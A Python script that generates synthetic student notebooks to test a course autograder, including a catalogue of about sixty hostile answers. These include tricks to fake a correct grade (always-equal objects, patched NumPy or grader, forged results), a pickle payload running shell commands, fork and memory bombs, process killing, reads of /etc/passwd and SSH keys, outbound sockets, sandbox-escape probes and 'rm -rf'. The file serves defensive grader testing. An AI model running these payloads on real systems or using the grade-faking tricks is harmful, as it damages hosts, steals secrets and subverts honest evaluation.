"""Make a class of synthetic submissions: honest, wrong and hostile ones, to test and to measure the grader.

    python tools/synthetic_class.py FOLDER --students 1000 [--seed 0]

Writes FOLDER/STUDENT/02_convolution_by_hand_exercises.ipynb. Every hostile notebook attacks exercise 2.2 and answers 2.4 honestly: 2.2 must
earn nothing, and 2.4 its point. Do not run these notebooks outside of a sandbox.
"""

import argparse
import json
import random
from pathlib import Path

NAME = "02_convolution_by_hand_exercises.ipynb"
HEAD = "import numpy as np\n\nfrom course_utils import check, hint, plots, progress, solution"
COST = """
def cost(height, width, kernel_height, kernel_width):
    positions = (height - kernel_height + 1) * (width - kernel_width + 1)
    return positions * kernel_height * kernel_width
"""
FEATURE_MAP = "feature_map = np.array([[50, 150], [0, 50]])"
CONVOLVE = "def convolve2d(image, kernel):\n    return correlate2d(image, kernel[::-1, ::-1])\n"
LOOP = """
def correlate2d(image, kernel):
    rows = image.shape[0] - kernel.shape[0] + 1
    columns = image.shape[1] - kernel.shape[1] + 1
    feature_map = np.zeros((rows, columns))
    for row in range(rows):
        for column in range(columns):
            window = image[row : row + kernel.shape[0], column : column + kernel.shape[1]]
            feature_map[row, column] = np.sum(window * kernel)
    return {result}
"""
SHIFTS = """
def correlate2d(image, kernel):
    height, width = kernel.shape
    rows, columns = image.shape[0] - height + 1, image.shape[1] - width + 1
    return sum(
        kernel[i, j] * image[i : i + rows, j : j + columns].astype(float) for i in range(height) for j in range(width)
    )
"""

HONEST = {"loop": LOOP.format(result="feature_map"), "shifts": SHIFTS}

# {what: (answer to 2.2, the mistake the grader must name)}
WRONG = {
    "flipped": (LOOP.format(result="feature_map").replace("window * kernel", "window * kernel[::-1, ::-1]"), "flipped"),
    "last line": (LOOP.format(result="feature_map[:-1, :-1]"), "last row or column missing"),
    "absolute": (LOOP.format(result="np.abs(feature_map)"), "absolute value"),
    "clipped": (LOOP.format(result="np.clip(feature_map, 0, 255)"), "clipped"),
    "list": (LOOP.format(result="feature_map.tolist()"), "list instead of array"),
    "None": (LOOP.format(result="None"), "returns None"),
    "integers": (LOOP.format(result="feature_map.astype(int)"), "integer output"),
    "raises": (LOOP.format(result="feature_map / undefined"), "raised"),
}


def attack(body, before=""):
    """Return an answer to 2.2 that does `body` when it is called."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"{before.strip()}\n\n\ndef correlate2d(image, kernel):\n{lines}\n"


_LOOK_FOR = """
def try_all(names):
    for other in names:
        if callable(other) and getattr(other, "__name__", "") in ("correlate2d", "_correlate_by_shifts", "correlate"):
            if other is not correlate2d:
                try:
                    return other(np.asarray(image_), np.asarray(kernel_))
                except Exception:
                    pass
    return np.zeros((1, 1))
"""

_REDUCE = """
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch <marker>/pickle",)
"""

_FRAMES = """
import os, struct
def flood(data):
    for number in range(256):
        try:
            os.write(number, data)
        except OSError:
            pass
"""

# {what: answer to 2.2}. <marker> is a folder outside that must stay empty; <host> a file outside that must not be read; <site> where
# packages are installed; <course> the real course; <port> a port where somebody listens; <other> another submission.
HOSTILE = {
    "always equal": attack(
        "return Equal()",
        "class Equal:\n    shape = dtype = ndim = size = property(lambda self: self)\n    def __eq__(self, other): return True\n"
        "    __ne__ = lambda self, other: False\n    def __array__(self, *a, **k): return np.ones((2, 3))\n"
        "    def __getattr__(self, name): return self\n    def __call__(self, *a, **k): return self",
    ),
    "equal array": attack(
        "return np.zeros((2, 2)).view(Equal)",
        "class Equal(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.True_\n    def __array_function__(self, *a, **k): return np.True_\n"
        "    __eq__ = lambda self, other: True\n    __hash__ = None",
    ),
    "patched NumPy": attack(
        "return np.zeros((3, 3))",
        "np.isclose = np.allclose = np.array_equal = lambda *a, **k: True\nnp.all = lambda *a, **k: np.True_\nnp.ndarray.tobytes",
    ),
    "patched engine": attack(
        "import course_utils.checks.engine as e, course_utils.checks.comparison as c, course_utils.checks.running as r\n"
        "e.judge = e.judge_answer = lambda *a, **k: e.Verdict(2.0, status='correct', message='', exercise_id='2.2')\n"
        "c.find_difference = c.agree = lambda *a, **k: None\nr.call_once = None\nreturn np.zeros((1, 1))"
    ),
    "patched program": attack(
        "import sys\nfor name, module in list(sys.modules.items()):\n    if 'course' in name:\n        for key in list(vars(module)):\n"
        "            if callable(vars(module)[key]): setattr(module, key, lambda *a, **k: True)\nreturn 1"
    ),
    "hunting frames": attack(
        "import sys\nglobal image_, kernel_\nimage_, kernel_ = image, kernel\nframe, found = sys._getframe(), []\nwhile frame:\n"
        "    found += list(frame.f_locals.values()) + list(frame.f_globals.values())\n    frame = frame.f_back\nreturn try_all(found)",
        _LOOK_FOR,
    ),
    "hunting garbage": attack(
        "import gc\nglobal image_, kernel_\nimage_, kernel_ = image, kernel\nreturn try_all(gc.get_objects())",
        _LOOK_FOR,
    ),
    "fake results": attack(
        "import json\nfor folder in ('.', '/', '/tmp', '/out', '/course', '<marker>'):\n    for name in ('results.jsonl', 'grades.csv', 'result.npy', '0.npy'):\n"
        "        try: open(folder + '/' + name, 'w').write(json.dumps(dict(exercise='2.2', points=2, status='correct')))\n"
        "        except OSError: pass\nreturn None"
    ),
    "forged frames": attack(
        'flood(struct.pack(\'>Q\', 40) + b\'{"found": "answer", "points": 2.0}\'.ljust(40))\nos._exit(0)', _FRAMES
    ),
    "forged giant header": attack(
        "import json\nheader = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (999999999, 999999999), }\"\n"
        "npy = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header\n"
        "text = json.dumps({'dict': [[{'str': 'value'}, {'array': 0}], [{'str': 'raised'}, None], [{'str': 'changed'}, {'tuple': []}]]}).encode()\n"
        "record = struct.pack('>IIQ', len(text), 1, len(npy)) + text + npy\nflood((struct.pack('>Q', len(record)) + record) * 5)\nos._exit(0)",
        _FRAMES,
    ),
    "forged sizes": attack("flood(struct.pack('>Q', 2**63) + b'x' * 100)\nos._exit(0)", _FRAMES),
    "forged depth": attack(
        "text = b'{\"tuple\": [' * 90000\nrecord = struct.pack('>II', len(text), 0) + text\nflood(struct.pack('>Q', len(record)) + record)\nos._exit(0)",
        _FRAMES,
    ),
    "forged object array": attack(
        "import pickle\nheader = b\"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\"\n"
        "npy = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header + pickle.dumps(Bomb())\n"
        'text = b\'{"dict": [[{"str": "value"}, {"array": 0}], [{"str": "raised"}, null], [{"str": "changed"}, {"tuple": []}]]}\'\n'
        "record = struct.pack('>IIQ', len(text), 1, len(npy)) + text + npy\nflood((struct.pack('>Q', len(record)) + record) * 6)\nos._exit(0)",
        _FRAMES + _REDUCE,
    ),
    "exit": attack("import os\nos._exit(0)"),
    "polite exit": attack("import sys\nsys.exit(0)"),
    "exit handler": attack(
        "return None", "import atexit\natexit_ = atexit.register(lambda: open('<marker>/atexit', 'w'))"
    ),
    "kills everybody": attack(
        "import os, signal\nfor number in (os.getppid(), 1, -1, *range(2, 40)):\n    if number != os.getpid():\n"
        "        try: os.kill(number, signal.SIGKILL)\n        except OSError: pass\nreturn None"
    ),
    "stops its parent": attack(
        "import os, signal, time\nos.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(1)\nreturn None"
    ),
    "pickle": attack("return Bomb()", _REDUCE),
    "object array": attack("return np.array([Bomb(), Bomb()], dtype=object)", _REDUCE),
    "array of text": attack("return np.array([['a', 'b']])"),
    "complex": attack("return np.zeros((2, 2), complex)"),
    "links": attack(
        "import os\nfor name in ('results', 'result.npy', 'stdout'):\n    for target in ('<host>', '/etc/passwd', '<marker>'):\n"
        "        try: os.symlink(target, '/tmp/' + name)\n        except OSError: pass\nreturn open('/tmp/results').read()"
    ),
    "pipes": attack("import os\nos.mkfifo('/tmp/result.npy')\nreturn open('/tmp/result.npy', 'rb').read()"),
    "sparse file": attack(
        "import os\nfor size in (2**20, 2**40, 2**60):\n    with open('/tmp/sparse', 'wb') as file: file.truncate(size)\nreturn np.memmap('/tmp/sparse')"
    ),
    "fills the disk": attack(
        "for number in range(10**6):\n    open(f'/tmp/{number}', 'wb').write(b'x' * 2**20)\nreturn None"
    ),
    "fork bomb": attack("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread bomb": attack(
        "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(9,)).start()\n    except RuntimeError: return None"
    ),
    "memory bomb": attack("kept = []\nwhile True:\n    kept.append(np.ones(10**7))"),
    "one huge array": attack("return np.ones((10**5, 10**6))"),
    "large result": attack("return np.ones((3000, 3000))"),
    "huge integer": attack("return 10 ** 10000"),
    "endless list": attack("found = []\nfound.append(found)\nreturn found"),
    "endless loop": attack(
        "import signal\nfor number in range(1, 65):\n    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    "endless loading": "correlate2d = [number for number in iter(int, 1)]",
    "sleeps": attack("import time\ntime.sleep(10**6)"),
    "output flood": attack("while True:\n    print('x' * 10**6)"),
    "pipe flood": attack("while True:\n    flood(b'x' * 2**20)", _FRAMES),
    "reads the host": attack(
        "import os\nfor path in ('<host>', '/etc/passwd', '/proc/1/environ', '/proc/self/maps', os.path.expanduser('~root/.ssh/id_rsa')):\n"
        "    try: raise ValueError(open(path).read())\n    except OSError: pass\nraise ValueError(str(os.listdir('/')))"
    ),
    "network": attack(
        "import socket\nfor address in ('127.0.0.1', '10.0.0.1', '8.8.8.8'):\n    try: socket.create_connection((address, <port>), 1).send(b'reached')\n"
        "    except OSError: pass\nreturn None"
    ),
    "another submission": attack(
        "space = dict(np=np)\nimport json\nfor cell in json.load(open('<other>'))['cells']:\n    exec(''.join(cell['source']), space)\nreturn space['correlate2d'](image, kernel)"
    ),
    "reference by import": attack(
        "from course_utils.checks.lesson_02 import correlate2d as right\nreturn right(image, kernel)"
    ),
    "reference by path": attack(
        "import sys\nsys.path.insert(0, '<course>')\nfor name in [n for n in sys.modules if n.startswith('course_utils')]: del sys.modules[name]\n"
        "from course_utils.checks.lesson_02 import correlate2d as right\nreturn right(image, kernel)"
    ),
    "reference by file": attack(
        "space = {}\nexec(open('<course>/course_utils/convolution.py').read(), space)\nreturn space['correlate2d'](image, kernel)"
    ),
    "the course's operation": attack("import course_utils\nreturn course_utils.correlate2d(image, kernel)"),
    "solution()": attack("text = solution('2.2')\nreturn eval(text)"),
    "check()": attack("import course_utils\nreturn course_utils.check('2.2', np.zeros((2, 2)), seed=1)"),
    "SciPy": attack("return signal.correlate2d(image, kernel, 'valid')", "from scipy import signal"),
    "SciPy by path": attack(
        "import sys\nsys.path[:0] = ['<site>', '/usr/lib/python3/dist-packages']\nfrom scipy.signal import correlate2d as right\nreturn right(image, kernel, 'valid')"
    ),
    "SciPy by ctypes": attack(
        "import ctypes, glob\nfound = glob.glob('<site>/scipy/**/*.so', recursive=True) + glob.glob('/**/scipy/**/*.so', recursive=True)\nreturn ctypes.CDLL(found[0])"
    ),
    "OpenCV": attack("import cv2\nreturn cv2.filter2D(image, -1, kernel)"),
    "escaping HTML": attack("raise ValueError('</pre><script>alert(1)</script><img src=x onerror=alert(2)>')"),
    "strange names": attack("return type('<b>x</b>', (), {})()"),
    "terminal codes": attack("raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\ud800 [bold]x[/nothing]')"),
    "exception with a temper": attack(
        "raise Angry()", "class Angry(Exception):\n    def __str__(self): raise SystemExit(3)\n    __repr__ = __str__"
    ),
    "null pointer": attack("import ctypes\nreturn ctypes.string_at(0)"),
    "deep recursion": attack("import sys\nsys.setrecursionlimit(10**9)\nf = lambda n: f(n + 1)\nreturn f(0)"),
    "new user namespace": attack(
        "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0: raise ValueError('ESCAPED')\nreturn None"
    ),
    "mounts": attack(
        "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: raise ValueError('ESCAPED')\nreturn None"
    ),
    "traces its parent": attack(
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, os.getppid(), None, None) == 0: raise ValueError('ESCAPED')\nreturn None"
    ),
    "spoils the course": attack(
        "for name in ('convolution', '__init__', 'autograder/inside', 'checks/engine'):\n"
        "    try: open(f'/course/course_utils/{name}.py', 'w').write('raise SystemExit')\n    except OSError: pass\nreturn None"
    ),
    "reads the job": attack("import sys\nreturn sys.stdin.read()"),
    "raises its limits": attack(
        "import resource\nfor what in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU):\n"
        "    resource.setrlimit(what, (resource.RLIM_INFINITY,) * 2)\nreturn None"
    ),
    "changes its input": attack(
        "image[:] = 0\nkernel[:] = 0\nreturn np.zeros((image.shape[0] - kernel.shape[0] + 1, image.shape[1] - kernel.shape[1] + 1))"
    ),
    "cell that cannot be parsed": "correlate2d = " + "(" * 5000 + ")" * 5000,
    "cell of escapes": "def correlate2d(image, kernel):\n" + "    !rm -rf <marker>\n    %time x\n" * 300,
    "writes outside": attack(
        "import os\nfor folder in ('<marker>', '/', '/root', '/home', '/var/tmp', '/dev/shm', '/etc'):\n"
        "    try: open(folder + '/convcourse-marker', 'w').write('x')\n    except OSError: pass\n    try: os.makedirs(folder + '/convcourse-marker-folder')\n    except OSError: pass\nreturn None"
    ),
    "shell": "!touch <marker>/shell\nget_ipython().system('touch <marker>/shell2')\n"
    + attack("import os\nos.system('touch <marker>/shell3')\nreturn None"),
}


def notebook(sources, version=4):
    """Return a notebook of code cells as a dict."""
    if version == 3:
        cells = [{"cell_type": "code", "input": source, "outputs": [], "language": "python"} for source in sources]
        return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""}, "worksheets": [{"cells": cells}]}
    cells = [
        {"cell_type": "code", "execution_count": None, "id": f"c{n}", "metadata": {}, "outputs": [], "source": source}
        for n, source in enumerate(sources)
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}


def answers(correlate2d):
    """Return the cells of a notebook with this answer to 2.2, and honest ones to the others."""
    pairs = [("2.1", FEATURE_MAP), ("2.2", correlate2d), ("2.3", CONVOLVE), ("2.4", COST)]
    names = {"2.1": "feature_map", "2.2": "correlate2d", "2.3": "convolve2d", "2.4": "cost"}
    cells = [HEAD]
    for id, source in pairs:
        cells += [source, f'check("{id}", {names[id]})']
    return cells


def write(folder, sources, name=NAME, version=4):
    """Write a notebook into a learner's folder."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(notebook(sources, version)), encoding="utf-8")


def hostile_cells(source, places):
    """Return the cells of a hostile notebook: its answer to 2.2 with the places filled in, and an honest one to 2.4."""
    for name, place in places.items():
        source = source.replace(f"<{name}>", str(place))
    return [HEAD, source, COST, 'check("2.4", cost)']


def write_class(folder, students, seed=0, hostile=0.05):
    """Write a class: mostly honest, a third with a known mistake, a few hostile; the same for the same seed."""
    draw = random.Random(seed)
    nowhere = {
        "marker": "/nowhere",
        "host": "/nowhere",
        "site": "/nowhere",
        "course": "/nowhere",
        "port": 9,
        "other": "/nowhere",
    }
    quick = [
        name for name in HOSTILE if not any(word in name for word in ("endless", "sleeps", "flood", "bomb", "disk"))
    ]
    for number in range(students):
        home = Path(folder) / f"student{number:04}"
        chance = draw.random()
        if chance < hostile:
            write(home, hostile_cells(HOSTILE[draw.choice(quick)], nowhere))
        elif chance < hostile + 0.3:
            write(home, answers(draw.choice(list(WRONG.values()))[0]))
        else:
            write(home, answers(draw.choice(list(HONEST.values()))))


def main():
    parser = argparse.ArgumentParser(description="Make a class of synthetic submissions.")
    parser.add_argument("folder", type=Path)
    parser.add_argument("--students", type=int, default=100)
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args()
    write_class(options.folder, options.students, options.seed)


if __name__ == "__main__":
    main()
